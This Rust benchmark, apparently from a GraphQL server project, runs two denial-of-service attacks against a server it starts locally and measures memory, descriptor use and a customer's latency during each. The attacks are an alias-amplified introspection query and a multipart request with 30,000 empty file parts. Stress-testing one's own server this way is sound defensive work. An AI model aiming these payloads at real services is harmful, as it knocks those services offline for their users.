//! The two attacks of issue 21 against a server started in this process on
//! 127.0.0.1, with a customer's `{ me { id } }` asked every 250 ms meanwhile:
//!
//! 1. introspection under aliases: `PARALLEL` anonymous (or `signed-in`) requests of `ALIASES`
//!    aliased `__schema { types { fields { args { type ... } } } }` (answers are
//!    read and discarded as they stream, so the client holds none of them);
//! 2. a multipart `POST /graphql` of 30,000 empty file parts, anonymous.
//!
//! Prints per attack: wall time, the answers' status and size, this process's
//! resident memory growth (it is the server; the client keeps nothing), its peak
//! open descriptors, and the customer's slowest and failed requests.
//!
//! ```sh
//! scripts/ensure-postgres.sh
//! cargo run --example attack_bench -- [ALIASES=300] [PARALLEL=3] [signed-in]
//! ```

mod common;

use std::{
    sync::{
        Arc,
        atomic::{AtomicBool, AtomicUsize, Ordering},
    },
    time::{Duration, Instant},
};

use booster::{app::AppState, config::Config};

fn open_descriptors() -> usize {
    std::fs::read_dir("/proc/self/fd").map_or(0, |dir| dir.count())
}

/// Samples descriptors every 5 ms and asks `{ me { id } }` every 250 ms (5 s
/// timeout) until `stop`; returns (peak descriptors, slowest answer, failures, asked).
async fn observe(
    base: String,
    key: String,
    stop: Arc<AtomicBool>,
) -> (usize, Duration, usize, usize) {
    let peak = Arc::new(AtomicUsize::new(open_descriptors()));
    let sampler = {
        let (peak, stop) = (peak.clone(), stop.clone());
        tokio::spawn(async move {
            while !stop.load(Ordering::Relaxed) {
                peak.fetch_max(open_descriptors(), Ordering::Relaxed);
                tokio::time::sleep(Duration::from_millis(5)).await;
            }
        })
    };
    let client = reqwest::Client::builder()
        .timeout(Duration::from_secs(5))
        .build()
        .unwrap();
    let (mut slowest, mut failed, mut asked) = (Duration::ZERO, 0, 0);
    while !stop.load(Ordering::Relaxed) {
        let started = Instant::now();
        let answer = client
            .post(format!("{base}/graphql"))
            .bearer_auth(&key)
            .json(&serde_json::json!({ "query": "{ me { id } }" }))
            .send()
            .await;
        let ok = match answer {
            Ok(response) => response
                .text()
                .await
                .is_ok_and(|body| body.contains("\"me\"")),
            Err(_) => false,
        };
        asked += 1;
        failed += usize::from(!ok);
        slowest = slowest.max(started.elapsed());
        tokio::time::sleep(Duration::from_millis(250)).await;
    }
    let _ = sampler.await;
    (peak.load(Ordering::Relaxed), slowest, failed, asked)
}

/// Sends one request and reads its answer as it streams; (status, bytes).
async fn send_and_drain(request: reqwest::RequestBuilder) -> (String, usize) {
    match request.send().await {
        Ok(mut response) => {
            let status = response.status().to_string();
            let mut bytes = 0;
            while let Ok(Some(chunk)) = response.chunk().await {
                bytes += chunk.len();
            }
            (status, bytes)
        }
        Err(error) => (format!("error: {error}"), 0),
    }
}

async fn attack<F, Fut>(name: &str, base: &str, key: &str, run: F)
where
    F: FnOnce() -> Fut,
    Fut: std::future::Future<Output = Vec<(String, usize)>>,
{
    let stop = Arc::new(AtomicBool::new(false));
    let observer = tokio::spawn(observe(base.to_string(), key.to_string(), stop.clone()));
    let (rss_before, fds_before) = (common::resident_mib("self"), open_descriptors());
    let started = Instant::now();
    let answers = run().await;
    let took = started.elapsed();
    // A last customer request after the attack, then stop observing.
    tokio::time::sleep(Duration::from_millis(300)).await;
    stop.store(true, Ordering::Relaxed);
    let (peak_fds, slowest, failed, asked) = observer.await.unwrap();
    println!("== {name}");
    println!("   time {:.2} s", took.as_secs_f64());
    for (status, bytes) in &answers {
        println!("   answer {status}, {:.1} MB", *bytes as f64 / 1e6);
    }
    println!(
        "   RSS {rss_before:.0} MiB -> {:.0} MiB (+{:.0} MiB)",
        common::resident_mib("self"),
        common::resident_mib("self") - rss_before
    );
    println!("   descriptors {fds_before} before, peak {peak_fds}");
    println!(
        "   customer {{ me {{ id }} }}: {asked} asked, {failed} failed, slowest {:.0} ms",
        slowest.as_secs_f64() * 1000.0
    );
}

#[tokio::main]
async fn main() -> anyhow::Result<()> {
    let mut args = std::env::args().skip(1);
    let aliases: usize = args.next().map(|a| a.parse()).transpose()?.unwrap_or(300);
    let parallel: usize = args.next().map(|a| a.parse()).transpose()?.unwrap_or(3);
    // `signed-in`: the attacker sends a customer's key too.
    let signed_in = args.next().as_deref() == Some("signed-in");
    common::with_bench_database(|url| async move {
        let mut config = Config::local(&url);
        config.server.anonymous_rate_limit_per_minute = 0;
        let state = AppState::new(config)?;
        let (_, key) = common::funded_user(&mut *state.pool.get().await?, "victim@bench.example").await?;
        let (_, attacker) = common::funded_user(&mut *state.pool.get().await?, "attacker@bench.example").await?;
        let post = |client: &reqwest::Client, base: &str| {
            let request = client.post(format!("{base}/graphql"));
            if signed_in { request.bearer_auth(&attacker) } else { request }
        };
        let base = common::serve(&state).await?;
        println!(
            "descriptor limit {:?}, {aliases} aliases x {parallel} in parallel",
            rlimit::getrlimit(rlimit::Resource::NOFILE)?
        );

        let selection = "__schema { types { name fields { name args { name type { name kind ofType { name kind } } } } } }";
        let document: String = (0..aliases).map(|i| format!("a{i}: {selection} ")).collect();
        let body = serde_json::json!({ "query": format!("{{ {document} }}") });
        println!("introspection document {:.0} KiB", body.to_string().len() as f64 / 1024.0);
        let client = reqwest::Client::builder()
            .timeout(Duration::from_secs(300))
            .build()?;
        attack("1. aliased introspection", &base, &key, || {
            let requests = (0..parallel).map(|_| {
                send_and_drain(post(&client, &base).json(&body))
            });
            futures_util::future::join_all(requests)
        })
        .await;

        let mut multipart = String::new();
        multipart += "--B\r\nContent-Disposition: form-data; name=\"operations\"\r\n\r\n{\"query\":\"{ __typename }\"}\r\n";
        multipart += "--B\r\nContent-Disposition: form-data; name=\"map\"\r\n\r\n{}\r\n";
        for i in 0..30_000 {
            multipart += &format!("--B\r\nContent-Disposition: form-data; name=\"{i}\"; filename=\"f\"\r\n\r\n\r\n");
        }
        multipart += "--B--\r\n";
        println!("multipart body {:.1} MB", multipart.len() as f64 / 1e6);
        attack("2. 30,000 empty file parts", &base, &key, || async {
            vec![
                send_and_drain(
                    post(&client, &base)
                        .header("content-type", "multipart/form-data; boundary=B")
                        .body(multipart.clone()),
                )
                .await,
            ]
        })
        .await;
        Ok(())
    })
    .await
}
